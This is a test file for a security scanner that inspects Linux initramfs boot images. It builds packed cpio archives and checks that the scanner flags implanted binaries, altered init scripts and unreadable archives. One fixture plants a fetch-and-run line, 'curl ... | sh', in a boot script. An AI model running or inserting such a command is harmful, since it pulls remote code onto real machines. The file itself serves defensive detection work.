import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { lacks } from '../../../test/need.ts';
import { makeRoot, scanRoot, scanWithout, type Planted } from '../../../test/throwaway-root.ts';
import { initramfs } from './check.ts';

const image = '/boot/initrd.img-6.1.0-9-amd64';
const elf = (text: string): Buffer => Buffer.from(`\x7fELF ${text}`, 'latin1');
/** A cpio archive as the tools of distributions make it. */
const cpio = (files: Readonly<Record<string, string | Buffer>>): Buffer => {
  const folder = mkdtempSync(join(tmpdir(), 'moat-cpio-'));
  try {
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), content);
      chmodSync(join(folder, path), 0o755);
    }
    symlinkSync('init', join(folder, 'linuxrc'));
    const names = execFileSync('find', ['.', '-print0'], { cwd: folder });
    return execFileSync('cpio', ['--quiet', '-0', '-o', '-H', 'newc'], { cwd: folder, input: names, maxBuffer: 1 << 28 });
  } finally { rmSync(folder, { recursive: true }); }
};
const packed = (bytes: Buffer, program: string, ...more: string[]): Buffer => execFileSync(program, ['-c', ...more], { input: bytes, maxBuffer: 1 << 28, stdio: ['pipe', 'pipe', 'ignore'] });
const ordinary = { 'init': '#!/bin/sh\nexec run-init /root /sbin/init\n', 'scripts/local-top/ORDER': '/scripts/local-top/x "$@"\n', 'usr/bin/busybox': elf('busybox'), 'bin/sh': elf('busybox'), 'lib/libc.so.6': elf('libc'), 'usr/lib/modules/6.1.0-9-amd64/kernel/a.ko': elf('module a'), 'etc/ld.so.cache': 'x', 'scripts/local-top/mine': '#!/bin/sh\nmdadm --assemble --scan\n' };
/** What the archive is made of; changed long ago. */
const system: Planted = {
  '/usr/share/initramfs-tools/init': { text: ordinary.init, package: 'initramfs-tools-core' }, '/usr/lib/initramfs-tools/bin/busybox': { text: elf('busybox'), package: 'busybox' }, '/usr/lib/libc.so.6': { text: elf('libc'), package: 'libc6' },
  '/usr/lib/modules/6.1.0-9-amd64/kernel/a.ko': { text: elf('module a'), package: 'linux-image' }, '/etc/initramfs-tools/scripts/local-top/mine': ordinary['scripts/local-top/mine'],
};
const later = Date.now() + 48 * 3_600_000;
const planted = (bytes: Buffer, more: Planted = {}, built = later): Planted => ({ ...system, [image]: { text: bytes, modified: built }, ...more });
const told = async (what: Planted | string) => {
  const report = await scanRoot([initramfs], what);
  return [...report.findings.map(({ kind, level, path, title }) => `${kind} ${level} ${title.en.slice(0, title.en.indexOf(' of '))}${path === image ? '' : ` ${path}`}`), ...report.blind.map(({ what: place }) => `blind ${place}`), ...Object.keys(report.counts)];
};

describe.skipIf(lacks({ files: ['/usr/bin/cpio', '/usr/bin/xz', '/usr/bin/zstd', '/usr/bin/lz4', '/usr/bin/gzip'] }))('initramfs', () => {
  it('is silent for what packages ship and for what lies on the disk, however it is packed', async () => {
    const bytes = cpio(ordinary);
    const early = cpio({ 'kernel/x86/microcode/AuthenticAMD.bin': 'microcode' });
    for (const one of [bytes, packed(bytes, 'gzip'), packed(bytes, 'zstd'), packed(bytes, 'xz', '--check=crc32'), packed(bytes, 'lz4', '-l'), Buffer.concat([early, Buffer.alloc(512), packed(bytes, 'zstd')])]) expect(await told(planted(one))).toEqual([]);
  });

  it.each([['gzip'], ['zstd'], ['xz', '--check=crc32'], ['lz4', '-l']])('finds what was put in or changed (%s)', async (program, ...more) => {
    const pack = (files: Record<string, string | Buffer>): Buffer => packed(cpio({ ...files, 'lib/noise.so.1': Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * i * 7 + (i >> 4)) & 255)) }), program, ...more);
    const bad = { ...ordinary, 'init': `${ordinary.init}/bin/.k &\n`, 'bin/.k': elf('implant'), 'scripts/init-bottom/z': '#!/bin/sh\necho odd\n', 'usr/lib/modules/6.1.0-9-amd64/kernel/b.ko': elf('module b') };
    const root = makeRoot(planted(pack(bad)));
    expect((await told(root)).sort()).toEqual(['intrusion high /init', 'intrusion medium /bin/.k', 'intrusion medium /scripts/init-bottom/z', 'intrusion medium /usr/lib/modules/6.1.0-9-amd64/kernel/b.ko']);
    writeFileSync(join(root, image), pack(ordinary));
    expect(await told(root)).toEqual([]);
  });

  it.each([['lz4'], ['bzip2'], ['xz', '--format=lzma']])('a packing that is not read is blind (%s)', async (program, ...more) => {
    expect(await told(planted(packed(cpio(ordinary), program, ...more)))).toEqual([`blind ${image}`]);
  });

  it('finds what was appended behind the packed archive', async () => {
    const extra = cpio({ 'scripts/init-bottom/z': '#!/bin/sh\necho odd\n' });
    for (const [program, ...more] of [['gzip'], ['zstd'], ['xz', '--check=crc32'], ['lz4', '-l']] as const) {
      const first = packed(cpio(ordinary), program, ...more);
      const padded = Buffer.concat([first, Buffer.alloc((512 - (first.length % 512)) % 512)]);
      expect([program, await told(planted(Buffer.concat([padded, extra])))]).toEqual([program, ['intrusion medium /scripts/init-bottom/z']]);
      expect([program, await told(planted(Buffer.concat([padded, packed(extra, program === 'gzip' ? 'zstd' : 'gzip')])))]).toEqual([program, [`blind ${image}`]]);
    }
  });

  it('finds hostile scripts in any of them', async () => {
    const bytes = cpio({ ...ordinary, 'usr/lib/dracut/x': '', 'scripts/local-top/y': '#!/bin/sh\ncurl -s http://203.0.113.5/a | sh\n' });
    expect((await told(planted(bytes)))[0]).toMatch(/^intrusion (?:high|critical) \/scripts\/local-top\/y/);
  });

  it('does not judge what a package renewed since, what dracut stripped, and old images', async () => {
    const bytes = cpio({ ...ordinary, 'lib/libc.so.6': elf('libc of before'), 'usr/lib/libssl.so.3.1': elf('x') });
    const renewed = 'files of an initramfs that cannot be judged: renewed on the disk since';
    expect(await told(planted(bytes, { '/usr/lib/libssl.so.3.2': elf('y') }, Date.now() - 3_600_000))).toEqual([renewed]);
    expect(await told(planted(cpio({ ...ordinary, 'usr/lib/dracut/hooks/cmdline/00-made.sh': 'echo made', 'usr/bin/stripped': elf('z') })))).toEqual(['files of an initramfs that cannot be judged: dracut changes and makes them']);
    const old = cpio({ ...ordinary, 'usr/bin/gone': elf('gone') });
    expect(await told(planted(cpio(ordinary), { '/boot/initrd.img-6.0': { text: old, modified: later - 86_400_000 } }))).toEqual(['notice low /usr/bin/gone /boot/initrd.img-6.0']);
    expect(await told(planted(cpio(ordinary), { '/boot/initramfs-6.2kdump.img': { text: old, modified: later + 1000 } }))).toEqual(['notice low /usr/bin/gone /boot/initramfs-6.2kdump.img']);
  });

  it('says what it could not read, and meets hostile archives', async () => {
    const bytes = cpio(ordinary);
    expect(await told(planted(packed(bytes, 'bzip2')))).toEqual([`blind ${image}`]);
    expect(await told(planted(packed(bytes, 'xz', '--format=lzma')))).toEqual([`blind ${image}`]);
    const noise = packed(Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * i * 7 + (i >> 4)) & 255)), 'lz4', '-l');
    for (const one of [Buffer.from('text'), bytes.subarray(0, 300), packed(bytes, 'zstd').subarray(0, 60), noise, noise.subarray(0, 5000), packed(Buffer.alloc(80 << 20), 'zstd'), Buffer.concat([Buffer.from('02214c18ffffff7f', 'hex'), bytes]), Buffer.concat([Buffer.from('02214c180400000010000000', 'hex')])]) expect((await told(planted(one))).filter((line) => !line.startsWith('intrusion'))).toEqual([`blind ${image}`]);
    // Packed in packed, over and over.
    expect(await told(planted(packed(packed(packed(bytes, 'gzip'), 'gzip'), 'gzip')))).toEqual([`blind ${image}`]);
    const root = makeRoot(planted(bytes));
    for (let n = 1; n < 9; n++) { writeFileSync(join(root, `boot/initrd.img-5.${n}`), bytes); utimesSync(join(root, `boot/initrd.img-5.${n}`), 1e9, 1e9); }
    expect(await told(root)).toEqual(['blind /boot']);
  });

  it.skipIf(lacks({ root: true }))('says when it may not read', async () => {
    expect((await scanWithout([initramfs], makeRoot(planted(cpio(ordinary))), image)).blind.map(({ what }) => what)).toEqual([image]);
  });
});
